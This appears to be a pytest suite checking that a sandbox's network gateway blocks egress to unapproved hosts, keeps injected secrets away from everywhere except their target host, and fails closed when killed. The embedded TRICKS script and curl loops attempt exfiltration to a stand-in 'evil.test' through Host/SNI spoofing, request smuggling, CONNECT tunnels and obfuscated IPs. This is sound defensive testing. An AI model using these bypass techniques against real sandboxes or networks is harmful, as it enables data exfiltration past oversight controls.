"""Nothing leaves a box but what a rule allows, to where it allows; a secret is nowhere but at the host it is for."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import secrets
import signal
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from sandbox.decoys import Decoys, Wiretap, files_with, memory_with, own_addresses
from sandbox.homes import Home, home, read_bytes, variables, wait_for
from sandbox.registries import Answer, Asked, Server, Trust

from livinglayer.sandbox import Sandbox

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="mounts and namespaces need root")
SMUGGLER = (Path(__file__).parent / "smuggler.py").read_text()


class World:
    """A host that is allowed, one that never is, and the rules."""

    def __init__(self, directory: Path) -> None:
        self.trust = Trust(directory, "good.test", "evil.test", "other.test")
        self.asked: list[Asked] = []
        self.go_on = threading.Event()
        self.go_on.set()
        self.good = Server(self.answer)
        self.good_tls = Server(self.answer, self.trust.context)
        self.evil = Server(lambda asked: Answer(b"evil"), address="0.0.0.0")
        self.evil_tls = Server(lambda asked: Answer(b"evil"), self.trust.context, address="0.0.0.0")
        self.stream = Streamer()
        self.rules: list[Any] = [
            {"host": "good.test", "protocol": "http", "resolve": f"127.0.0.1:{self.good.port}", "private": True},
            {"host": "good.test", "protocol": "https", "resolve": f"127.0.0.1:{self.good_tls.port}", "private": True},
        ]
        self.streaming: list[Any] = [
            {"host": "stream.test", "protocol": "http", "resolve": f"127.0.0.1:{self.stream.port}", "private": True}
        ]

    def answer(self, asked: Asked) -> Answer:
        self.asked.append(asked)
        path, _, query = asked.target.partition("?")
        if path == "/redirect":
            return Answer(b"", 302, {"Location": unquote(query)})
        if path == "/wait":
            self.go_on.wait(20)
        if path == "/echo":
            said = {"target": asked.target, "headers": dict(asked.headers), "body": asked.body.decode("latin-1")}
            return Answer(json.dumps(said).encode(), 200, {"X-Echo": asked.headers.get("authorization", "none")})
        return Answer(f"{asked.method} {path}\n".encode())

    def close(self) -> None:
        self.go_on.set()
        for server in (self.good, self.good_tls, self.evil, self.evil_tls, self.stream):
            server.close()


class Streamer:
    """Answers every connection with a body that never ends."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.open = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=self._stream, args=(self._socket.accept()[0],), daemon=True).start()

    def _stream(self, connection: socket.socket) -> None:
        self.open += 1
        with contextlib.suppress(OSError), connection:
            connection.recv(65536)
            connection.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            while True:
                connection.sendall(b"5\r\ntick\n\r\n")
                time.sleep(0.02)
        self.open -= 1

    def close(self) -> None:
        self._socket.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(tmp_path_factory.mktemp("world"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def own(world: World) -> Iterator[Home]:
    with home({"SSL_CERT_FILE": str(world.trust.ca)}) as made:
        yield made


@pytest.fixture
def decoys(tmp_path: Path) -> Iterator[Decoys]:
    made = Decoys(tmp_path)
    yield made
    made.close()


@pytest.fixture
def boxes() -> Iterator[contextlib.ExitStack]:
    """Whatever boxes a test enters here end with it."""
    with contextlib.ExitStack() as held:
        yield held


def fetch(box: Any, url: str, *more: str) -> tuple[int, str]:
    """(exit code of curl, body); a refusal is no success."""
    done = box.run(["curl", "-fsS", "-m", "8", *more, url], timeout=30)
    return done.exit_code, done.stdout.text + done.stderr.text


# ---- nothing allowed ----


def test_with_egress_off_nothing_leaves(own: Home, decoys: Decoys) -> None:
    mark = "m" + secrets.token_hex(12)
    plan = {
        "mark": mark,
        "addresses": [*own_addresses(), "169.254.169.254", "192.0.2.7", "198.18.0.1"],
        "ports": [decoys.port, 53, 443],
        "names": ["decoy.test", "localhost.decoy.test", socket.gethostname()],
        "abstract": decoys.abstract[1:],
        "unix": decoys.named,
    }
    with Sandbox.create(egress=[]) as box, Wiretap(mark.encode()) as tap:
        for user in ("user", "root"):
            done = box.run(["python3", "-c", SMUGGLER, json.dumps(plan)], user=user, timeout=120)
            outcome = json.loads(done.stdout)
            assert len(outcome) > 100 and outcome["devices"] == "['lo']", done.stderr.text
            assert not any("evil" in said or "connected" in said for said in outcome.values())
        done = box.python(SMUGGLER, args=[json.dumps(plan)], timeout=120)  # the zygote's children are in the same place
        assert json.loads(done.stdout)["devices"] == "['lo']"
        trace = box.trace()
    assert decoys.heard == []
    assert tap.found == [] and tap.dropped == 0
    # What was tried stands in the trace, refused.
    tried = [event for event in trace if event["event"] == "network"]
    assert len(tried) > 20 and {event["verdict"] for event in tried} == {"deny"}
    assert any(mark in event["host"] for event in tried if event["protocol"] == "dns")


def test_the_ears_hear(decoys: Decoys) -> None:
    """The test above could fail: what does leave is heard."""
    mark = secrets.token_hex(12).encode()
    with Wiretap(mark) as tap:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(mark, ("127.0.0.1", decoys.port))
        socket.create_connection(("127.0.0.1", decoys.port)).close()
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(decoys.abstract)
        wait_for(lambda: len(decoys.heard) >= 3)
    assert {what for what, _ in decoys.heard} == {"udp", "tcp", "abstract"}
    assert tap.found


# ---- one host allowed ----

TRICKS = """
import json, socket, ssl, sys
good, evil, evil_tls, own, mark = sys.argv[1:]
evil, evil_tls = int(evil), int(evil_tls)
address = socket.gethostbyname(good)


def talk(where, text, tls=None):
    try:
        with socket.create_connection(where, 3) as one:
            if tls is not None:
                context = ssl._create_unverified_context()
                one = context.wrap_socket(one, server_hostname=tls or None)
            one.sendall(text.replace("\\n", "\\r\\n").encode("latin-1"))
            one.settimeout(3)
            said = b""
            try:
                while part := one.recv(4096):
                    said += part
            except OSError:
                pass
            return said.decode("latin-1")
    except OSError as error:
        return repr(error)


request = f"GET /{mark} HTTP/1.1\\nHost: %s\\nConnection: close\\n\\n"
said = {}
hosts = [
    "evil.test", f"evil.test:{evil}", "evil.test:80", "good.test@evil.test", "evil.test#good.test", "evil.test/good.test",
    "good.test.evil.test", "good.test\\x00.evil.test", "good.test,evil.test", "good.test evil.test", f"127.0.0.1:{evil}", own,
    f"{own}:{evil}", "[::1]", f"good.test:{evil}", "evil.test\\nHost: good.test", "good.test\\nHost: evil.test", "*.test", "", "GOOD.test.evil.test",
    "good.test\\\\@evil.test", "%67ood.test", "good.test%00.evil.test", "xn--good.test", "localhost", "198.18.0.1", "good.test:80:80", "good.test:",
]
for host in hosts:
    said["Host: " + host] = talk((address, 80), request % host)
    said["TLS, Host: " + host] = talk((address, 443), request % host, tls="good.test")
for target in (f"http://evil.test:{evil}/", f"http://{own}:{evil}/", f"//evil.test:{evil}/", f"http://good.test@{own}:{evil}/", f"evil.test:{evil}"):
    said["target " + target] = talk((address, 80), f"GET {target} HTTP/1.1\\nHost: good.test\\nConnection: close\\n\\n")
for name in ("evil.test", "", "good.test.evil.test", own, "GOOD.TEST"):
    said["SNI " + name] = talk((address, 443), request % "good.test", tls=name)
    said["SNI and Host " + name] = talk((address, 443), request % (name or "evil.test"), tls=name)
for at in ((own, evil), ("127.0.0.1", evil), (own, 80), (own, 443), ("192.0.2.7", 80), ("198.18.0.1", 80), ("198.18.0.1", evil)):
    said[f"at {at}, Host: good.test"] = talk(at, request % "good.test")
    said[f"at {at}, TLS for good.test"] = talk(at, request % "good.test", tls="good.test")
for at in ((address, 80), ("198.18.0.1", 80), ("198.18.0.1", 3128), (own, 3128)):
    for goal in (f"evil.test:{evil}", f"{own}:{evil}", f"127.0.0.1:{evil}", f"good.test:{evil}"):
        said[f"CONNECT {goal} at {at}"] = talk(at, f"CONNECT {goal} HTTP/1.1\\nHost: {goal}\\n\\nGET /{mark} HTTP/1.1\\nHost: x\\n\\n")
hidden = f"GET /{mark} HTTP/1.1\\nHost: evil.test:{evil}\\n\\n"
said["smuggled CL.TE"] = talk((address, 80), f"POST / HTTP/1.1\\nHost: good.test\\nContent-Length: {len(hidden) + 10}\\nTransfer-Encoding: chunked\\n\\n0\\n\\n{hidden}")
said["smuggled TE.TE"] = talk((address, 80), f"POST / HTTP/1.1\\nHost: good.test\\nTransfer-Encoding: chunked\\nTransfer-Encoding: x\\n\\n0\\n\\n{hidden}")
said["smuggled by two lengths"] = talk((address, 80), f"POST / HTTP/1.1\\nHost: good.test\\nContent-Length: 0\\nContent-Length: {len(hidden)}\\n\\n{hidden}")
said["pipelined"] = talk((address, 80), f"GET / HTTP/1.1\\nHost: good.test\\n\\n{hidden}")
for name in (f"{mark}.good.test", f"{mark}.test", "evil.test", "good.test.evil.test", "goodxtest", "2130706433", "0x7f.1", "127.1", "good.test."):
    try:
        said["resolve " + name] = str(socket.getaddrinfo(name, 80)[0][4])
    except OSError as error:
        said["resolve " + name] = repr(error)
print(json.dumps(said))
"""


def test_with_one_host_allowed_nothing_leaves_to_another(own: Home, world: World, decoys: Decoys) -> None:
    mark = "m" + secrets.token_hex(12)
    address = next((one for one in own_addresses() if not one.startswith("127.")), "127.0.0.1")
    before = len(world.asked)
    with Sandbox.create(egress=world.rules) as box, Wiretap(f"{mark}.".encode(), f"\x17{mark}".encode()) as tap:
        assert fetch(box, "http://good.test/hello") == (0, "GET /hello\n")
        assert fetch(box, "https://good.test/hello") == (0, "GET /hello\n")
        done = box.run(
            ["python3", "-c", TRICKS, "good.test", str(world.evil.port), str(world.evil_tls.port), address, mark],
            timeout=300,
        )
        said = json.loads(done.stdout or "{}")
        assert len(said) > 90, done.stderr.text
        leaked = {name: answer for name, answer in said.items() if "evil" in answer.partition("\r\n\r\n")[2][:5]}
        assert not leaked
        ways = [
            ["http://good.test/redirect?" + quote(f"http://evil.test:{world.evil.port}/{mark}"), "-L"],
            ["http://good.test/redirect?" + quote(f"http://{address}:{world.evil.port}/{mark}"), "-L"],
            ["https://good.test/redirect?" + quote(f"https://{address}:{world.evil_tls.port}/{mark}"), "-Lk"],
            [f"http://good.test:{world.evil.port}/", "--resolve", f"good.test:{world.evil.port}:{address}"],
            ["http://good.test/", "--connect-to", f"good.test:80:{address}:{world.evil.port}"],
            [f"http://evil.test:{world.evil.port}/", "-x", "http://good.test:80"],
            [f"http://evil.test:{world.evil.port}/", "-x", "http://198.18.0.1:80"],
            [f"http://evil.test:{world.evil.port}/", "--proxytunnel", "-x", "http://198.18.0.1:3128"],
            [f"http://evil.test:{world.evil.port}/", "-x", f"socks5h://{address}:{world.evil.port}"],
            *(
                [f"http://{form}:{world.evil.port}/"]
                for form in ("2130706433", "0x7f000001", "0177.1", "[::ffff:127.0.0.1]")
            ),
            [f"http://{address}:{world.evil.port}/{mark}"],
            [f"http://{address}:{decoys.port}/{mark}"],
        ]
        for url, *more in ways:
            assert fetch(box, url, *more)[0] != 0, url
        trace = box.trace()
    assert world.evil.accepted == world.evil_tls.accepted == 0 and decoys.heard == []
    assert tap.found == []  # no name with the mark was asked of anybody
    reached = world.asked[before:]
    assert {asked.headers.get("host") for asked in reached} == {"good.test"}
    allowed = [
        event for event in trace if event["event"] == "network" and event["verdict"] == "allow" and event["method"]
    ]
    assert len(allowed) == len(reached) and {event["host"] for event in allowed} == {"good.test"}


# ---- secrets ----

KEEPER = """
import os, sys, time, urllib.request
token, kept = os.environ["TOKEN"], []
for url in ("https://good.test/echo", "https://good.test/echo?key=" + token, "http://good.test/echo"):
    for _ in range(3):
        request = urllib.request.Request(url, data=b"key=" + token.encode(), headers={"Authorization": "Bearer " + token})
        answer = urllib.request.urlopen(request)
        kept.append((answer.read(), dict(answer.headers)))
print(kept[0][0].decode(), flush=True)
open("/home/user/answers", "w").write(repr(kept))
time.sleep(600)
"""


def forms(value: str) -> tuple[bytes, ...]:
    """As it is and as it is easily hidden."""
    raw = value.encode()
    return raw, base64.b64encode(raw)[:-4], raw.hex().encode(), raw[::-1], value.encode("utf-16-le")


def whereabouts(marks: tuple[bytes, ...], own: Home, boxes: list[Any], tmp: Path) -> list[str]:
    """Every place in which one of the marks is found: files, the raw disk, the box seen from outside, processes, what the API says."""
    os.sync()
    found = [
        f"file {path}" for path in files_with(marks, own.state)
    ]  # store, logs, traces, records, disk/ and the raw disk.img
    found += [f"file {path}" for path in files_with(marks, tmp)]
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            for name in ("environ", "cmdline", "comm", "wchan"):
                if any(mark in read_bytes(process / name) for mark in marks):
                    found.append(f"{name} of process {process.name}")
    servants = own.servants
    known = {servants["host"], servants["gateway"], os.getpid()}  # those who must know it
    for box in boxes:
        pid = box.info()["pid"]
        for place in ("etc", "home", "root", "tmp", "var", "run", "dev/shm"):
            found += [f"in the box: {path}" for path in files_with(marks, Path(f"/proc/{pid}/root", place))]
        for process in Path(f"/proc/{pid}/root/proc").iterdir():
            if process.name.isdigit():
                for name in ("environ", "cmdline"):
                    if any(mark in read_bytes(process / name) for mark in marks):
                        found.append(f"in the box: {name} of process {process.name}")
        said = json.dumps([box.trace(), box.metrics(), box.info(), box.changes(), box.processes()])
        if any(mark.decode("latin-1") in said for mark in marks):
            found.append("what the API says of the box")
        group = [pid, *(int(line) for path in own._cgroups() for line in read_bytes(path / "cgroup.procs").split())]
        for one in {*group, servants["spawner"], servants.get("zygote", 0)} - known - {0}:
            found += [f"memory of process {one}: {place}" for place in memory_with(one, marks)]
    return found


def test_a_secret_is_found_nowhere_but_where_it_is_for(
    own: Home, world: World, tmp_path: Path, boxes: contextlib.ExitStack
) -> None:
    value, canary = "sk-" + secrets.token_urlsafe(24), "canary-" + secrets.token_hex(16)
    rules = [rule | {"secrets": ["TOKEN"]} for rule in world.rules]
    other = [{"host": "other.test", "protocol": "http", "resolve": f"127.0.0.1:{world.good.port}", "private": True}]
    before, record = len(world.asked), tmp_path / "record"
    box = boxes.enter_context(
        Sandbox.create(
            name="keeper", egress=rules + other, secrets={"TOKEN": value}, env={"CANARY": canary}, record=str(record)
        )
    )
    assert box.run("echo $TOKEN").stdout == "LAYER_SECRET_TOKEN\n"
    keeper = box.start(["python3", "-c", KEEPER])
    wait_for(lambda: box.files.exists("/home/user/answers"), 30)
    assert fetch(box, "https://good.test/echo", "-u", "me:LAYER_SECRET_TOKEN")[0] == 0
    code, said = fetch(box, "http://other.test/echo", "-H", "Authorization: Bearer LAYER_SECRET_TOKEN")
    assert code == 0 and "LAYER_SECRET_TOKEN" in said  # a host whose rule does not name it gets the placeholder
    assert fetch(box, "http://good.test/echo", "-H", "X-Key: LAYER_SECRET_TOKEN", "-o", "/home/user/kept")[0] == 0
    box.files.write("/home/user/canary", canary)
    [fork] = box.fork(1)
    boxes.enter_context(fork)
    assert fork.run("echo $TOKEN").stdout == "LAYER_SECRET_TOKEN\n"
    assert fetch(fork, "https://good.test/echo", "-H", "Authorization: Bearer LAYER_SECRET_TOKEN")[0] == 0
    snapshot = box.snapshot()
    with Sandbox.create(snapshot=snapshot.id) as later:
        assert "LAYER_SECRET_TOKEN" in later.files.read("/home/user/answers").decode()

    # The host it is for did get it, every time; another did not; and nobody in the box read it in an answer.
    reached = world.asked[before:]
    with_value = [
        asked
        for asked in reached
        if value in str(asked) or base64.b64encode(f"me:{value}".encode()).decode() in str(asked)
    ]
    assert len(with_value) == 12 and len(reached) == 13
    assert {asked.headers["host"] for asked in with_value} == {"good.test"}
    assert value not in box.files.read("/home/user/answers").decode() + box.files.read("/home/user/kept").decode()
    used = [event for event in box.trace() if event["event"] == "secret"]
    assert len(used) == 11 and {(event["name"], event["host"]) for event in used} == {("TOKEN", "good.test")}

    place = tmp_path / "searched"
    place.mkdir()
    assert whereabouts(forms(value), own, [box, fork], place) == []
    assert value.encode() not in record.read_bytes() and b"LAYER_SECRET_TOKEN" in base64.b64decode(
        json.loads(record.read_bytes().splitlines()[0])["data"]
    )
    # The search could fail: what is no secret is found in every kind of place.
    seen = "\n".join(whereabouts((canary.encode(),), own, [box, fork], place))
    for kind in (
        "disk.img",
        "disk/boxes",
        "disk/layers",
        "in the box: /proc",
        "environ of process",
        "memory of process",
        "/boxes/",
    ):
        assert kind in seen, kind
    keeper.kill()
    for one in (box, fork):
        one.kill()
    assert list(files_with(forms(value), own.state)) == []


# ---- the gateway's death ----


def test_the_gateway_killed_mid_request_fails_closed_and_comes_back(own: Home, world: World, decoys: Decoys) -> None:
    value = "sk-" + secrets.token_urlsafe(24)
    rules = [rule | {"secrets": ["TOKEN"]} for rule in world.rules]
    mark = "m" + secrets.token_hex(12)
    with Sandbox.create(egress=rules, secrets={"TOKEN": value}) as box, Sandbox.create(egress=[]) as shut:
        world.go_on.clear()
        waiting = box.start(["curl", "-fsS", "-m", "20", "http://good.test/wait"])
        wait_for(lambda: any(asked.target == "/wait" for asked in world.asked))
        first = own.gateway
        os.kill(first, signal.SIGKILL)
        assert waiting.wait().exit_code != 0
        world.go_on.set()
        wait_for(lambda: own.gateway != first)

        # It dies again and again while both boxes knock at every door: nothing gets out that was not allowed.
        knock = f"for i in $(seq 60); do for u in {{}}; do curl -fsS -m 2 $u/{mark} >/dev/null 2>&1; done; done"
        address = next((one for one in own_addresses() if not one.startswith("127.")), "127.0.0.1")
        evils = " ".join(f"http://{host}:{decoys.port}" for host in (address, "127.0.0.1", "evil.test"))
        knocking = [
            box.start(knock.format("http://good.test " + evils)),
            shut.start(knock.format("http://good.test " + evils)),
        ]
        deaths = set()
        for _ in range(8):
            time.sleep(0.25)
            deaths.add(gateway := own.gateway)
            with contextlib.suppress(ProcessLookupError):
                os.kill(gateway, signal.SIGKILL)
        assert len(deaths) >= 5
        for one in knocking:
            one.kill()
        assert decoys.heard == []

        # And it is back with the same rules and the same secrets, for boxes old and new.
        began = time.monotonic()
        wait_for(lambda: fetch(box, "http://good.test/back")[0] == 0, 20)
        print(f"\nthe gateway answers {time.monotonic() - began:.2f} s after its last death")
        assert fetch(box, "https://good.test/echo", "-H", "Authorization: Bearer LAYER_SECRET_TOKEN")[0] == 0
        assert any(asked.headers.get("authorization") == f"Bearer {value}" for asked in world.good_tls.asked)
        assert fetch(box, f"http://{address}:{decoys.port}/")[0] != 0
        assert fetch(shut, "http://good.test/")[0] != 0
        with Sandbox.create(egress=world.rules) as later:
            assert fetch(later, "http://good.test/later") == (0, "GET /later\n")
    assert decoys.heard == []


def test_a_gateway_that_hangs_lets_nothing_out(own: Home, world: World, decoys: Decoys) -> None:
    with Sandbox.create(egress=world.rules) as box:
        gateway, before = own.gateway, len(world.asked)
        os.kill(gateway, signal.SIGSTOP)
        try:
            for url in ("http://good.test/", f"http://{own_addresses()[-1]}:{decoys.port}/"):
                assert box.run(["curl", "-fsS", "-m", "1", url], timeout=30).exit_code != 0
            assert len(world.asked) == before and decoys.heard == []
        finally:
            os.kill(gateway, signal.SIGCONT)
        wait_for(lambda: fetch(box, "http://good.test/again")[0] == 0, 20)
    assert decoys.heard == []


# ---- rules that change, answers that are played back ----


def test_what_is_no_longer_allowed_is_closed_at_once(own: Home, world: World) -> None:
    rules = world.rules + world.streaming
    with Sandbox.create(egress=rules) as box:
        streams = [box.start(["curl", "-fsS", "http://stream.test/"]) for _ in range(3)]
        wait_for(lambda: world.stream.open == 3)
        box.set_egress(world.rules + [{"host": "unrelated.test"}])
        began = time.monotonic()
        assert all(one.wait().exit_code != 0 for one in streams)
        took = time.monotonic() - began
        wait_for(lambda: world.stream.open == 0)
        assert took < 2, took
        assert fetch(box, "http://stream.test/")[0] != 0
        assert fetch(box, "http://good.test/stays") == (0, "GET /stays\n")
        box.set_egress([])
        assert fetch(box, "http://good.test/")[0] != 0
        box.set_egress(rules)
        assert fetch(box, "http://good.test/returns") == (0, "GET /returns\n")
        again = box.start(["curl", "-fsS", "http://stream.test/"])
        wait_for(lambda: world.stream.open == 1)
        box.kill()
        wait_for(lambda: world.stream.open == 0)  # the end of a box is the end of what it had open
    del again


def test_what_was_recorded_is_played_back_without_a_network(own: Home, world: World, tmp_path: Path) -> None:
    record = tmp_path / "day.record"
    asks = [
        ("http://good.test/a", "-H", "X-A: 1"),
        ("https://good.test/b", "-d", "body"),
        ("http://good.test/a", "-H", "X-A: 1"),
    ]
    with Sandbox.create(egress=world.rules, record=str(record)) as box:
        first = [fetch(box, *ask) for ask in asks]
    assert [code for code, _ in first] == [0, 0, 0]
    accepted = world.good.accepted, world.good_tls.accepted
    with Sandbox.create(egress=world.rules, replay=str(record)) as box:
        assert [fetch(box, *ask) for ask in asks] == first
        assert fetch(box, "http://good.test/never")[0] != 0  # not in the recording: not asked of the world either
        assert fetch(box, "https://good.test/b", "-d", "other body")[0] != 0
        assert fetch(box, "http://evil.test/")[0] != 0
    assert (world.good.accepted, world.good_tls.accepted) == accepted


def test_a_host_without_a_gateway_keeps_no_rules(own: Home) -> None:
    """Tier process says that it can't, rather than letting everything out."""
    from livinglayer.errors import Invalid

    with pytest.raises(Invalid, match="gateway"):
        Sandbox.create(tier="process", egress=["good.test"])
    with pytest.raises(Invalid, match="gateway"):
        Sandbox.create(tier="process", secrets={"TOKEN": "sk-something"})
    with variables({}):
        assert all(box.tier != "process" for box in Sandbox.list())
